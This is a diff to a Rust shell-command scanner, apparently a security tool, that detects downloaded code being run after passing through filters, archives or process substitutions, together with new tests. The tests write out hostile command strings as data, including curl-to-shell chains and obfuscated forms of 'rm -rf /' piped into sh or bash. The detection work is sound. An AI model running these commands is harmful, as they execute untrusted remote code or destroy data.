@@ -1022,6 +1022,7 @@ impl<'l, 'w> Walk<'l, 'w> {
             let at = Chain {
                 cwd: state.cwd.as_deref(),
                 piped_download: false,
+                nested_download: false,
             };
             self.take_verdict(&mut v, sc, at);
             self.report.read_only = false;
@@ -1083,9 +1084,9 @@ impl<'l, 'w> Walk<'l, 'w> {
             let piped_download = piped_in && prev.is_some_and(|p| p.downloads_to_stdout);
             // `sed 's/Q/r/g' <<< 'Qm -Qf /' | sh`: text the line spells out in a heredoc or
             // here-string, rewritten on its way, as when it is piped in (below).
-            if let Some(text) = own_stdin.filter(|_| {
-                !prints_own && effects.passes_stdin && state.feeds_pipe && rewrites_text(cmd)
-            }) {
+            if let Some(text) =
+                own_stdin.filter(|_| !prints_own && effects.passes_stdin && rewrites_text(cmd))
+            {
                 effects.prints = Some(text.to_owned());
                 effects.decodes = true;
                 effects.partial = true;
@@ -1109,6 +1110,11 @@ impl<'l, 'w> Walk<'l, 'w> {
                         }
                     }
                 }
+            }
+            // `curl … | gunzip > x.sh`, `curl … | tee x.sh`: a download passed on through a
+            // filter into a file downloads that file.
+            if effects.downloads_to_stdout && !v.effects.downloads_to_stdout {
+                self.passed_download(cmd, sc, state.cwd.as_deref());
             }
             // `tee s.sh`, `cp a b.sh`: files that receive text the line shows (rare: out of
             // line).
@@ -1142,12 +1148,14 @@ impl<'l, 'w> Walk<'l, 'w> {
                 [w, ..] => Some(*w),
                 [] => None,
             };
-            if let Some(w) = word.filter(|w| !w.dynamic) {
+            if let Some(w) = word {
+                // (A path with a variable names the same file where the line spells it the
+                // same way: `$env:TEMP\a.zip`.)
                 if rules::has_separator(&w.text) {
                     if self.executes.len() < 256 {
                         self.executes.push(norm_at(state.cwd.as_deref(), &w.text));
                     }
-                } else if self.run_words.len() < 256 {
+                } else if !w.dynamic && self.run_words.len() < 256 {
                     self.run_words.push(match state.cwd.as_deref() {
                         None => Cow::Borrowed(w.text.as_str()),
                         cwd => Cow::Owned(rules::join_dir(cwd, &w.text)),
@@ -1235,6 +1243,7 @@ impl<'l, 'w> Walk<'l, 'w> {
                         let at = Chain {
                             cwd: state.cwd.as_deref(),
                             piped_download,
+                            nested_download: nested_downloads,
                         };
                         let prints = self.take_verdict(&mut v, sc, at);
                         if prints_own {
@@ -1269,6 +1278,7 @@ impl<'l, 'w> Walk<'l, 'w> {
             let at = Chain {
                 cwd: state.cwd.as_deref(),
                 piped_download,
+                nested_download: nested_downloads,
             };
             let prints = self.take_verdict(&mut v, sc, at);
             if prints_own {
@@ -1284,6 +1294,22 @@ impl<'l, 'w> Walk<'l, 'w> {
         last
     }
 
+    /// A filter that passes on a download piped into it writes it to its stdout's file (`>
+    /// x.sh`) and, for `tee`, to its file operands: those files are downloads.
+    #[inline(never)]
+    fn passed_download(&mut self, cmd: &command::Cmd<'_>, sc: &SimpleCommand, cwd: Option<&str>) {
+        for r in sc.redirects.iter().filter(|r| r.takes_stdout()) {
+            self.downloads.push(norm_at(cwd, &r.target.text));
+        }
+        if cmd.program == "tee" {
+            for w in cmd.argv.iter().skip(1) {
+                if !w.text.starts_with('-') && self.downloads.len() < 256 {
+                    self.downloads.push(norm_at(cwd, &w.text));
+                }
+            }
+        }
+    }
+
     /// What comes out of a downloaded archive is downloaded too: an archive the line
     /// downloaded (or a file inside a downloaded directory), or one a download pipes in
     /// (`curl … | tar xz`), unpacks its tree — a directory, the working directory
@@ -1294,6 +1320,7 @@ impl<'l, 'w> Walk<'l, 'w> {
         for (archive, dest) in extracts {
             let downloaded = match archive {
                 None => at.piped_download,
+                Some(a) if a.starts_with("<(") => at.nested_download,
                 Some(a) => {
                     let a = norm_at(at.cwd, a);
                     self.downloads.iter().any(|d| within_download(&a, d))
@@ -2621,6 +2648,8 @@ fn norm_at(cwd: Option<&str>, p: &str) -> String {
 struct Chain<'a> {
     cwd: Option<&'a str>,
     piped_download: bool,
+    /// A `<(…)` of the command writes a download (`tar xzf <(curl …)`).
+    nested_download: bool,
 }
 
 fn within(file: &str, dir: &str) -> bool {
@@ -2868,6 +2897,88 @@ mod tests {
 
     fn has(r: &Report, spec: &finding::FindingSpec) -> bool {
         r.findings.iter().any(|f| f.id == spec.id)
+    }
+
+    #[test]
+    fn downloaded_archives_unpack_downloads() {
+        let remote = |s: &str| has(&run(s), &finding::REMOTE_SCRIPT_EXECUTION);
+        for s in [
+            "curl -L https://x.example/p.tgz | tar xz && ./p/install.sh",
+            "curl -L https://x.example/p.tgz | tar xz -C /tmp/p && /tmp/p/run",
+            "curl -o a.zip https://x.example/a.zip && unzip a.zip -d d && sh d/s.sh",
+            "curl -o /tmp/a.tgz https://x.example/a.tgz && cd /tmp && tar xzf a.tgz && ./a/x",
+            "curl -L https://x.example/p.tgz | tar xz && cd p && ./configure",
+            "curl -s https://x.example/i.sh.gz | gunzip > i.sh && sh i.sh",
+            "tar xzf <(curl -sL https://x.example/p.tgz) && ./p/install.sh",
+            "git clone https://x.example/r && cd r && ./install.sh",
+            "cd /tmp && curl -O https://x.example/a.sh && sh /tmp/a.sh",
+        ] {
+            assert!(remote(s), "{s}: {:?}", ids(&run(s)));
+        }
+        for s in [
+            "tar xzf vendor.tgz && ./vendor/run.sh",
+            "curl -o d.tgz https://x.example/d.tgz && tar xzf d.tgz && ls d",
+            "curl -o d.tgz https://x.example/d.tgz && tar tzf d.tgz && ./d/run",
+            "curl -L https://x.example/p.tgz | tar xz -C v && ./configure",
+            "curl -L https://x.example/p.tgz | tar xz && cd p && make",
+            "git clone https://x.example/r && cd r && make",
+        ] {
+            assert!(!remote(s), "{s}: {:?}", ids(&run(s)));
+        }
+    }
+
+    #[test]
+    fn within_download_reads_the_working_directory_tree() {
+        for f in ["p/run", "run", "a/b/c.sh"] {
+            assert!(within_download(f, CWD_TREE), "{f}");
+        }
+        for f in [
+            "/tmp/x", "../x", "..", "~/x", "$HOME/x", "%TEMP%/x", "C:/x", "",
+        ] {
+            assert!(!within_download(f, CWD_TREE), "{f}");
+        }
+        assert!(within_download("r/x.sh", "r") && !within_download("rx/x.sh", "r"));
+        assert_eq!(norm_at(Some("/tmp"), "./p/x.sh"), "/tmp/p/x.sh");
+        assert_eq!(norm_at(Some("/tmp"), "/opt/x"), "/opt/x");
+        assert_eq!(norm_at(None, "./p/x.sh"), norm("p/x.sh"));
+    }
+
+    #[test]
+    fn aliases_hand_on_what_their_text_downloads() {
+        let r = run("alias get='curl -s https://x.example/i.sh'; get | sh");
+        assert!(has(&r, &finding::REMOTE_SCRIPT_EXECUTION), "{:?}", ids(&r));
+        let r = run("alias get='curl -so i.sh'; get https://x.example/i.sh && sh i.sh");
+        assert!(has(&r, &finding::REMOTE_SCRIPT_EXECUTION), "{:?}", ids(&r));
+        let r = run("alias get='curl -s https://x.example/d'; get | jq .");
+        assert!(!has(&r, &finding::REMOTE_SCRIPT_EXECUTION), "{:?}", ids(&r));
+    }
+
+    #[test]
+    fn rewritten_heredocs_and_here_strings_into_shells_are_built_code() {
+        for s in [
+            "sed 's/Q/r/g' <<< 'Qm -Qf /' | sh",
+            "cut -c2- <<< 'Xrm -rf /' | bash",
+            "sed 's/Q/r/g' <<'EOF' | sh\nQm -Qf /\nEOF",
+            "sed 's/Q/r/g' <<< 'Qm -Qf /' > x.sh; sh x.sh",
+        ] {
+            let r = run(s);
+            assert!(
+                has(&r, &finding::DYNAMIC_CODE_EXECUTION),
+                "{s}: {:?}",
+                ids(&r)
+            );
+        }
+        for s in [
+            "sed 's/a/b/' <<< 'hello' | cat",
+            "sed 's/a/b/' <<< 'x' > out.txt",
+        ] {
+            let r = run(s);
+            assert!(
+                !has(&r, &finding::DYNAMIC_CODE_EXECUTION),
+                "{s}: {:?}",
+                ids(&r)
+            );
+        }
     }
 
     #[test]
